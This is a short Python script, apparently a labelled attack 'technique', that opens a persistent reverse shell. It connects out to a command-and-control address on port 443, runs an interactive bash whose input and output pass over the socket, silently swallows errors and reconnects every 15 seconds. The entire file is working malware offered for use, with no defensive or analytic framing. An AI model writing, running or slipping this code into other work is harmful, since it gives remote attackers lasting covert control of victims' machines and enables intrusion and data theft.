# technique: select()-based relay between a C2 socket and an interactive shell subprocess with pipes, reconnecting on failure
import os
import select
import socket
import subprocess
import time

LHOST = "203.0.113.10"
LPORT = 443
RETRY = 15


def session(sock):
    sh = subprocess.Popen(["/bin/bash", "-i"], stdin=subprocess.PIPE,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                          bufsize=0)
    out_fd = sh.stdout.fileno()
    while sh.poll() is None:
        r, _, _ = select.select([sock, out_fd], [], [], 1.0)
        if sock in r:
            data = sock.recv(1024)
            if not data:
                break
            sh.stdin.write(data)
            sh.stdin.flush()
        if out_fd in r:
            chunk = os.read(out_fd, 4096)
            if not chunk:
                break
            sock.sendall(chunk)
    try:
        sh.kill()
    except Exception:
        pass


while True:
    try:
        s = socket.create_connection((LHOST, LPORT))
        session(s)
        s.close()
    except Exception:
        pass
    time.sleep(RETRY)
